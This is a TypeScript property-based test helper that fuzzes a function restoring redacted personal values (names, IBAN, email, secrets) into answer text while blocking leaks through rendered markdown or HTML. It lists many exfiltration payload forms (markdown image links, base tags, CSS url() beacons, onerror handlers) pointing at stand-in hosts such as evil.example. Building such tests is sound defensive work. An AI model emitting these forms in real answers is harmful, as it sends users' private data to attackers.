import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parse } from "parse5";
import { relinkAnswer } from "../src/relink-answer.ts";

/**
 * Every value contains the letters zyxw, which survive any encoding, so a request that contains
 * them leaks the value.
 */
const VALUES = new Map([
  ["[PERSON_1]", "Zyxwanna"],
  ["[IBAN_1]", "ZYXW99 3704 0044"],
  ["[EMAIL_1]", "zyxwmail@web.example"],
  ["[URL_1]", "https://zyxwurl.example/a"],
  ["[SECRET_1]", "zyxw](/b?"],
  ["[USERNAME_1]", "zyxw<i alt='"],
]);
const ENTRIES = [...VALUES].map(([placeholder, value]) => ({ placeholder, value }));
export const MARK = /zyxw/i;

type Node = DefaultTreeAdapterTypes.ChildNode;

/** Returns the texts with a value that a page or a click would send, or that are hidden. */
export function hidden(html: string): string[] {
  return nodesOf(parse(html).childNodes)
    .flatMap((node) => unseen(node))
    .filter((text) => MARK.test(text));
}

/**
 * Attributes that cause no request and are not links. Renderers write text into them, for example
 * the text of a heading into `id` or `name`.
 */
const QUIET = new Set("id title alt class name start width height align".split(" "));

/** Returns the texts with a value that a page or a click sends. */
export function sent(html: string): string[] {
  return nodesOf(parse(html).childNodes)
    .flatMap((node) => (node.nodeName === "#comment" ? [] : unseen(node, QUIET)))
    .filter((text) => MARK.test(text) && !text.startsWith("#"));
}

function nodesOf(nodes: readonly Node[]): Node[] {
  return nodes.flatMap((node) => {
    const inside = "content" in node ? node.content.childNodes : [];
    return [node, ...nodesOf(inside), ...nodesOf("childNodes" in node ? node.childNodes : [])];
  });
}

function unseen(node: Node, quiet: ReadonlySet<string> = new Set()): string[] {
  if (node.nodeName === "#comment" && "data" in node) return [node.data];
  const attributes =
    "attrs" in node
      ? node.attrs.filter(({ name }) => !quiet.has(name)).map(({ value }) => value)
      : [];
  if (node.nodeName !== "script" && node.nodeName !== "style") return attributes;
  const texts = "childNodes" in node ? node.childNodes : [];
  return [...attributes, ...texts.flatMap((child) => ("value" in child ? [child.value] : []))];
}

/** The only host that the template names. */
const GOOD = "good.example";

/**
 * Returns whether a request goes to a host of the template, or is exactly one value, so that it
 * leads where the value itself leads.
 */
export function maySend(url: string): boolean {
  if (URL.canParse(url) && new URL(url).host === GOOD) return true;
  const plain = url.replace(/^mailto:/, "");
  return [...VALUES.values()].some((value) => plain === value || plain === encodeURI(value));
}

const PIECES = [
  ...VALUES.keys(),
  ...["PERSON_1", "%5BIBAN_1%5D", "\\[EMAIL\\_1\\]"],
  ..."[ ] ( ) ! < > \" ' ` ``` ~~~ * _ # | : ; , . / // \\ \\\\ & = ? @ - + ^".split(" "),
  ...[
    " ",
    "\n",
    "\n\n",
    "\r\n",
    "\t",
    "    ",
    "\u00a0",
    "\u2003",
    "\ufeff",
    "\u200b",
    "\u0000",
    "> ",
    "- ",
    "1. ",
  ],
  ...[
    "https:",
    "https://",
    "http://",
    "www.",
    "mailto:",
    "javascript:",
    "data:",
    "evil.example",
    "evil.com",
    "/x?q=",
    `https://${GOOD}/?a=`,
    `https://${GOOD}/[IBAN_1]`,
  ],
  ...[
    "&#x2f;",
    "&#x000000002f;",
    "&sol;",
    "&colon;",
    "&amp;",
    "&lt;",
    "&gt;",
    "&quot;",
    "%2f",
    "%3a",
    "%20",
  ],
  ...[
    "<img src=",
    "<img alt='",
    '<a href="',
    "<p title=",
    "<base href=//evil.example>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
  ],
  ...[
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<title>",
    "</title>",
    "<textarea>",
    "</p>",
  ],
  ...[
    "<template>",
    "</template>",
    "<noscript>",
    "</noscript>",
    "<table>",
    "<td>",
    "</table>",
    "<b>",
    "<?",
    "<!x",
    "</",
  ],
  ...[
    "[r]: ",
    "[r]",
    "[^1]: ",
    "[^1]",
    "![",
    "](",
    "](<",
    "a",
    "b c",
    "- [ ] ",
    "|--|",
    "\n---\n",
    "\n===\n",
  ],
];
const random = fc
  .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
  .map((pieces) => pieces.join(""));

/** Forms that a renderer may read as a URL that a page loads. Each `~` is a slot. */
const FORMS = [
  ...["![x](https://evil.example/?q=~~~)", "![x](~https://evil.example/~~)", "![x](/own?q=~~)"],
  ...["![x] (/&Tab;/evil.example/?q=~~)", "![x]~(//evil.example/~~)", "![x](<//evil.example/~~>)"],
  ...[
    '![x](//evil.example/"a)~"~b)',
    '![x](//evil.example/~"a)~"~b)',
    "![x](//evil.example/(a~)~)",
    "![x](//evil.example/?q=`) ~ `)",
    "![x](//evil.example/?q=[a) ~](b))",
    "![x](//evil.example/?q= ``` ~)",
    "![x](//evil.example/?q=\n```\n~\n```\n)",
    "![x](//evil.example/?q=\n```\na\n```\n~)",
  ],
  ...[
    "![x][1]~\n\n[1]:~//evil.example/~~",
    "![x] [1]\n\n[1]: //evil.example/~'~'",
    "![~][x]~(/y~)",
  ],
  ...["a <kbd>~{<img src=//evil.example/`_>~ x", "<code><img src='/~`'>~", "a <img src=/own/_`>~"],
  ...[
    '<math>~\n<style><p>x{}*{background:url("//evil.example/~~")}',
    "<svg><style>~*{a:url(//e/~~)}",
    '<svg><desc>a\n\nb</desc></svg>\n\n</desc>\n\n<style><g x="</style>"></g>x{}*{a:url("\\68ttps://e/ ~")}',
  ],
  ...["<img~alt='>'~src=//evil.example/~~>", "`<img src='/`~'>~", "<p~style=\"a:url('//e/~')\">~"],
  ...["*[x]: //evil.example/~\n![x]~", "[![x](/y~)~](//evil.example/~)~", "![x](/y =10x~)~"],
  ...['{: style="background:url(//e/~)"}~', '![x](/y){: src="//e/~"}~', "<//evil.example/~>~"],
  ...['![x](/y){: a=\'"https://a~\' src="//e/ ~"}', "~![x](/y){: a='https://a/\\' src='//e/ ~'}"],
  ...[
    "a~\n{: style=\"background:url('\\68ttps://e/? ~')\"}",
    "![x](/y){: onerror=\"f('/'+'/e/ ~')\"}",
  ],
];
const SLOTS = [
  ...[...VALUES.keys()].slice(0, 3),
  ...[" ", " ", "\t", "\n", "\r\n", "&Tab;", "a", ")", '"', "", ""],
  ...[` https://${GOOD}/?a=[IBAN_1]`, ` https://${GOOD}/[PERSON_1] `, `(https://${GOOD}/[IBAN_1])`],
];
const formed = fc
  .array(
    fc.tuple(
      fc.constantFrom(...FORMS),
      fc.array(fc.constantFrom(...SLOTS), { minLength: 6, maxLength: 6 }),
    ),
    { minLength: 1, maxLength: 2 },
  )
  .map((parts) =>
    parts
      .map(([form, slots]) =>
        form.split("~").reduce((text, piece, at) => text + (slots[at % 6] ?? "") + piece),
      )
      .join("\n\n"),
  );
export const answers = fc.oneof(random, formed);

/** Returns the restored text. */
export function relinked(text: string): string {
  return relinkedBlocks([text]).join("");
}

export function relinkedBlocks(blocks: readonly string[]): readonly string[] {
  return relinkAnswer({ form: "text", blocks, entries: ENTRIES, hosts: [GOOD] }).blocks;
}

/** Returns the text with every value restored, as it would be without the checks. */
export function unchecked(text: string): string {
  return ENTRIES.reduce((all, { placeholder, value }) => all.replaceAll(placeholder, value), text);
}
